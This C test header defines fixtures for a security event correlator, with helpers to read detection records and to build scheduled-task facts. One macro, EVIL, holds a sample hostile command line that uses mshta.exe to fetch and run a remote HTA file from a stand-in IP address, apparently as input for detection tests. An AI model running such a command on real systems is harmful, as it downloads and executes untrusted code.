/* sensor.h -- for tests: a correlator whose records are kept, and facts for it. */
#ifndef SENSOR_H
#define SENSOR_H

#include "detect/correlate.h"
#include "unit/evedesk.h"

#define MINUTE	60000000LL	/* in microseconds */

struct sensor {
	struct desk	*d;
	struct rule_set	 rules;
	struct correlate_terms terms;
	struct baseline	*baseline;
	struct correlate *c;
};

/* Begins anew, with the terms as they are then. */
static inline void
restart(struct sensor *s)
{
	correlate_free(s->c);
	s->c = correlate_new(&s->d->stats, eve_output(s->d->eve), &s->terms, s->baseline);
	assert_non_null(s->c);
}

static inline int
open_sensor(void **state)
{
	struct sensor *s = calloc(1, sizeof(*s));

	assert_non_null(s);
	s->d = offline_new(false);
	rule_set_init(&s->rules);
	s->terms = (struct correlate_terms){
		.rules = &s->rules, .alert = VERDICT_SUSPICIOUS, .repeat = 60 * MINUTE,
		.chains = { .short_lived = MINUTE, .fan_out = 60 * MINUTE, .fan_out_servers = 5 }
	};
	restart(s);
	*state = s;
	return 0;
}

static inline int
close_sensor(void **state)
{
	struct sensor *s = *state;

	correlate_free(s->c);
	allow_free(s->terms.allow);
	offline_free(s->d);
	free(s);
	return 0;
}

static inline void
put(struct sensor *s, struct fact *o)
{
	sink_put(correlate_sink(s->c), o);
}

/* The nth record's, counted from 0, at "detection.chain.id". */
static inline json_t *
at(const struct sensor *s, size_t n, const char *path)
{
	json_t *j = json_array_get(s->d->records, n);
	char key[64];

	assert_non_null(j);
	for (size_t len; *path != '\0'; path += len + (path[len] == '.')) {
		len = strcspn(path, ".");
		snprintf(key, sizeof(key), "%.*s", (int)len, path);
		j = json_object_get(j, key);
	}
	return j;
}

static inline const char *
text_at(const struct sensor *s, size_t n, const char *path)
{
	const char *text = json_string_value(at(s, n, path));

	return text != NULL ? text : "";
}

static inline json_int_t
number_at(const struct sensor *s, size_t n, const char *path)
{
	return json_integer_value(at(s, n, path));
}

static inline bool
has_reason(const struct sensor *s, size_t n, const char *id)
{
	json_t *reason;
	size_t i;

	json_array_foreach(at(s, n, "detection.reasons"), i, reason)
		if (strcmp(json_string_value(json_object_get(reason, "id")), id) == 0)
			return true;
	return false;
}

#define EVIL	"mshta.exe http://198.51.100.7/a.hta"
#define PLAIN	"C:\\Windows\\System32\\robocopy.exe D:\\data E:\\copy /mir"

static inline struct fact *
task_that(struct sensor *s, const char *action, const char *name, const char *line)
{
	struct fact *o = task(s->d);

	fact_str(o, F_ACTION, action);
	fact_str(o, F_ROUTE, "rpc");
	fact_str(o, F_VISIBILITY, "clear");
	fact_str(o, F_OUTCOME, "success");
	fact_str(o, F_AUTH_USER, "bob");
	fact_str(o, F_NAME, name);
	if (line != NULL) {
		fact_next(o, F_ACT_TYPE);
		fact_str(o, F_ACT_TYPE, "exec");
		fact_str(o, F_ACT_COMMAND_LINE, line);
	}
	return o;
}

#endif
